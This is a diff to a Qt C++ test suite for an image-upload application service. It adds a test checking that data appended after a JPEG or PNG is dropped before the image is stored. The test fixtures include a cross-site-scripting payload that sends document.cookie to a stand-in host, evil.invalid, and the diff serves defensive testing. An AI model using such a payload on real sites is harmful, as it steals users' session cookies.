@@ -2,6 +2,8 @@
 
 #include "ApplicantFixture.h"
 
+#include <QDir>
+#include <QFile>
 #include <QJsonObject>
 #include <QTest>
 
@@ -22,6 +24,8 @@ private Q_SLOTS:
     void requestShape_data();
     void requestShape();
     void declaredOversizeIsRefusedBeforeReading();
+    void dataAfterTheImageIsDropped_data();
+    void dataAfterTheImageIsDropped();
 };
 
 void TestApplicationValidation::badImageIsRefusedAndNothingStored_data()
@@ -38,9 +42,6 @@ void TestApplicationValidation::badImageIsRefusedAndNothingStored_data()
     QTest::addRow("PNG truncated") << "frame1" << png.left(png.size() - 20) << 422;
     QTest::addRow("text, not an image") << "frame0" << QByteArray("hello, this is not an image") << 415;
     QTest::addRow("GIF") << "document_front" << QByteArray("GIF89a\x01\x00\x01\x00\x00\x00\x00;", 14) << 415;
-    QTest::addRow("JPEG with a script appended") << "frame3" << jpeg + script << 422;
-    QTest::addRow("JPEG with script and a fake end marker") << "frame3" << jpeg + script + "\xFF\xD9" << 422;
-    QTest::addRow("PNG with a script after IEND") << "frame1" << png + script << 422;
     QTest::addRow("empty part") << "frame0" << QByteArray("") << 422;
     QTest::addRow("image over the byte limit") << "document_front" << jpeg + QByteArray(600 * 1024, 'x') << 422;
 }
@@ -65,6 +66,43 @@ void TestApplicationValidation::badImageIsRefusedAndNothingStored()
                     "key-image-002")
                  .status,
              201);
+}
+
+void TestApplicationValidation::dataAfterTheImageIsDropped_data()
+{
+    // Phones append data after a JPEG's end marker (Android's Ultra HDR gain map is a second JPEG,
+    // a Motion Photo a video); attackers a script (a polyglot). The application is accepted and
+    // the stored file is the image alone.
+    QTest::addColumn<QString>("part");
+    QTest::addColumn<QByteArray>("image");
+    QTest::addColumn<QByteArray>("trailer");
+    const QByteArray jpeg = ApplicantTestKit::smallJpeg();
+    const QByteArray png = ApplicantTestKit::smallPng();
+    const QByteArray script = "<script>fetch('https://evil.invalid/'+document.cookie)</script>";
+    QTest::addRow("JPEG with a script appended") << "frame3" << jpeg << script;
+    QTest::addRow("JPEG with script and a fake end marker") << "frame3" << jpeg << script + "\xFF\xD9";
+    QTest::addRow("JPEG with a second JPEG (gain map) appended") << "document_front" << jpeg << jpeg;
+    QTest::addRow("PNG with a script after IEND") << "frame1" << png << script;
+}
+
+void TestApplicationValidation::dataAfterTheImageIsDropped()
+{
+    QFETCH(QString, part);
+    QFETCH(QByteArray, image);
+    QFETCH(QByteArray, trailer);
+    auto images = ApplicantTestKit::images();
+    images[part] = image + trailer;
+    const auto reply = submit(ApplicantTestKit::body(ApplicantTestKit::fields(newNonce()), images), token(),
+                              "key-trailer-001");
+    QCOMPARE(reply.status, 201);
+    const QStringList directories = imageDirectories();
+    QCOMPARE(directories.size(), 1);
+    const QDir directory(QDir(spoolFilesDirectory()).filePath(directories.front()));
+    const QStringList stored = directory.entryList({part + QStringLiteral(".*")}, QDir::Files);
+    QCOMPARE(stored.size(), 1);
+    QFile file(directory.filePath(stored.front()));
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    QCOMPARE(file.readAll(), image);
 }
 
 void TestApplicationValidation::badFieldIs400NamingIt_data()
